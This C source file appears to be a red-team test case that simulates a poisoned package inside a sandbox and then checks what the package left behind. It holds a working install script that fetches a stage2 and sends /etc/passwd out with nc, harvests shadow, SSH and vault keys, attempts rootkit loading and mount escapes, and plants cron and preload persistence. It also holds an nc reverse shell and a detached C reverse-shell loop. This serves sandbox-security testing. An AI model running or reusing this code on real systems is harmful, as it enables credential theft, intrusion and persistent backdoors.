/*
 * Family 12: a poisoned package. Its install script runs with all that the session has: it tries what the
 * other families try, with the tools of the image and with a program of its own, leaves a reverse shell, a
 * cron job and a few other ways to come back, and then looks, in the sandbox's next life, what of it is still
 * there.
 */
#include <arpa/inet.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ipc.h>
#include <sys/shm.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/un.h>
#include <unistd.h>

#include "redteam/attacks/inside.h"

#define PACKAGE "/workspace/package"
enum { SCRIPT_MS = 20000, ATTACK_MS = 4000, LEFT_KEY = 0x1c1a0666 };

/* With the tools of the image only. "HOST" and "PORT" are in the environment; the last line says that it was
 * all tried. */
static const char script[] =
    "#!/bin/sh\n"
    "exec 2>/dev/null\n"
    "wget -T 2 -q -O /tmp/stage2 http://$HOST:$PORT/stage2 && echo got stage2\n"
    "nc -w 1 $HOST $PORT </etc/passwd && echo sent passwd\n"
    "ls /var/run/docker.sock /run/docker.sock /run/containerd/containerd.sock /run/podman/podman.sock "
    "/run/systemd/private && echo got engine\n"
    "for p in /proc/[0-9]*; do cat $p/environ $p/mem >/tmp/loot; grep -a -l icx- /tmp/loot && echo got loot; "
    "done\n"
    "cat /etc/shadow /root/.ssh/id_rsa /var/lib/ironclaw/vault/master.key >/tmp/keys && echo got keys\n"
    "mount -t proc proc /mnt && echo got mount\n"
    "mount -o remount,rw / && echo got root\n"
    "unshare -r id && echo got userns\n"
    "chmod 4755 /workspace/package/helper && echo got setuid\n"
    "su -c id && echo got su\n"
    "mknod /tmp/disk b 254 0 && echo got disk\n"
    "insmod /workspace/package/rootkit.ko && echo got module\n"
    "kill -9 1\n" /* answers 0 and does nothing: it is that namespace's init */
    "i=0; while [ $i -lt 200 ]; do sleep 1 & i=$((i+1)); done; kill $(jobs -p)\n"
    "dd if=/dev/zero of=/dev/shm/fill bs=1M count=32; rm -f /dev/shm/fill\n"
    "printf 'GET /v1/files HTTP/1.1\\r\\nHost: m\\r\\n\\r\\n' | nc -w 1 127.0.0.1 8471 | grep -q '200 OK' && "
    "echo got files\n"
    "for f in /var/spool/cron/crontabs/root /var/spool/cron/crontabs/sandbox /etc/cron.d/update /etc/crontab "
    "/etc/ld.so.preload /etc/profile.d/x.sh "
    "/etc/systemd/system/x.service /root/.profile /root/.ssh/authorized_keys /usr/bin/true /lib/x.so; do "
    "echo '* * * * * /workspace/package/shell' >>$f && echo got $f; done\n"
    "crontab /workspace/package/cron && echo got crontab\n"
    "cp /workspace/package/shell /tmp/.hidden; cp /workspace/package/shell /dev/shm/.hidden\n"
    "echo install-script-finished\n";

static bool put(const char *path, const char *text, mode_t mode)
{
    int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, mode);
    bool ok = fd >= 0 && write(fd, text, strlen(text)) == (ssize_t)strlen(text);

    if (fd >= 0)
        (void)close(fd);
    return ok;
}

/* Connects home again and again, out of the process group and the session of whoever may be asked to stop it.
 */
static void reverse_shell(const struct order *o)
{
    struct sockaddr_in in = {.sin_family = AF_INET, .sin_port = htons((uint16_t)order_number(o, "port"))};

    if (fork() != 0)
        return;
    (void)setsid();
    if (fork() != 0)
        _exit(0);
    for (int fd = 0; fd < 64; fd++)
        (void)close(fd);
    (void)inet_pton(AF_INET, order_text(o, "host"), &in.sin_addr);
    for (;;) {
        int fd = socket(AF_INET, SOCK_STREAM, 0);
        if (connect(fd, (struct sockaddr *)&in, sizeof(in)) == 0)
            (void)!write(fd, "shell", 5);
        (void)close(fd);
        in.sin_addr.s_addr = htonl(INADDR_LOOPBACK); /* the host's loopback, if this were it */
        (void)usleep(100000);
    }
}

static int run_script(void *arg)
{
    const struct order *o = arg;
    int out = open("/tmp/script.out", O_WRONLY | O_CREAT | O_TRUNC, 0600);

    (void)setenv("HOST", order_text(o, "host"), 1);
    (void)setenv("PORT", order_text(o, "port"), 1);
    (void)setenv("PATH", "/usr/bin:/bin", 1);
    (void)dup2(out, 1);
    (void)execl("/bin/sh", "sh", PACKAGE "/install.sh", (char *)NULL);
    return 127;
}

/* The program of the package: one attack of every other family, as its author would bring it along. */
static int run_attack(void *arg)
{
    const char *const *id = arg;
    static const struct order nothing;

    tell_to(-1); /* what matters is what the host sees */
    return inside_run(*id, &nothing) ? 0 : 1;
}

static void install(const struct order *o)
{
    static const char *const ids[] = {"net.raw-sockets", "engine.sockets",  "sibling.files",
                                      "fs.mounts",       "self.propose",    "keys.files",
                                      "queue.rewrite",   "priv.namespaces", "kernel.facilities",
                                      "res.descriptors", "port.model-paths"};
    char out[8192] = "", *save = NULL;
    int id = shmget(LEFT_KEY, 4096, IPC_CREAT | 0666), status, ran = 0;

    (void)mkdir(PACKAGE, 0755);
    step("package",
         put(PACKAGE "/install.sh", script, 0755) &&
                 put(PACKAGE "/shell", "#!/bin/sh\nwhile :; do nc $HOST $PORT -e /bin/sh; done\n", 0755) &&
                 put(PACKAGE "/cron", "* * * * * /workspace/package/shell\n", 0644) &&
                 put(PACKAGE "/helper", "#!/bin/sh\nid\n", 0755)
             ? 0
             : -1);
    step("shm", id);
    status = in_child(run_script, (void *)(uintptr_t)o, SCRIPT_MS);
    (void)slurp("/tmp/script.out", out, sizeof(out));
    stepf("script", strstr(out, "install-script-finished") ? 0 : -1, "ended with %d", status);
    for (char *line = strtok_r(out, "\n", &save); line; line = strtok_r(NULL, "\n", &save))
        if (!strncmp(line, "got ", 4) || !strncmp(line, "sent ", 5))
            claim("the install script %s", line);
    for (size_t i = 0; i < sizeof(ids) / sizeof(*ids); i++) {
        const char *which = ids[i];
        ran += in_child(run_attack, &which, ATTACK_MS) != 1;
    }
    stepf("attacks", ran, "%d of %zu attacks of the package ran", ran, sizeof(ids) / sizeof(*ids));
    reverse_shell(o);
    step("reverse-shell", 0);
}

static unsigned entries(const char *path, const char *label)
{
    DIR *dir = opendir(path);
    const struct dirent *d;
    unsigned n = 0;

    while (dir && (d = readdir(dir))) {
        if (!strcmp(d->d_name, ".") || !strcmp(d->d_name, ".."))
            continue;
        n++;
        fact(label, "%s", d->d_name);
    }
    if (dir)
        (void)closedir(dir);
    return n;
}

/* What is there of an earlier life? */
static void look(const struct order *o)
{
    DIR *dir = opendir("/proc");
    const struct dirent *d;
    unsigned processes = 0;
    char name[64], path[64];

    (void)o;
    while (dir && (d = readdir(dir))) {
        if (strspn(d->d_name, "0123456789") != strlen(d->d_name))
            continue;
        processes++;
        (void)snprintf(path, sizeof(path), "/proc/%.20s/comm", d->d_name);
        if (slurp(path, name, sizeof(name)) > 0) {
            name[strcspn(name, "\n")] = 0;
            fact("process", "%s", name);
        }
    }
    if (dir)
        (void)closedir(dir);
    fact("processes", "%u", processes);
    fact("tmp", "%u", entries("/tmp", "tmp-entry"));
    fact("shm", "%u", entries("/dev/shm", "shm-entry"));
    fact("workspace", "%u", entries("/workspace", "workspace-entry"));
    fact("package", "%u", entries(PACKAGE, "package-entry"));
    fact("cron", "%u", entries("/var/spool/cron/crontabs", "cron-entry"));
    fact("segment", "%d", shmget(LEFT_KEY, 0, 0) >= 0);
    step("look", 0);
}

const struct inside_attack inside_supply[] = {
    {"supply.install", install},
    {"supply.look", look},
    {NULL, NULL},
};
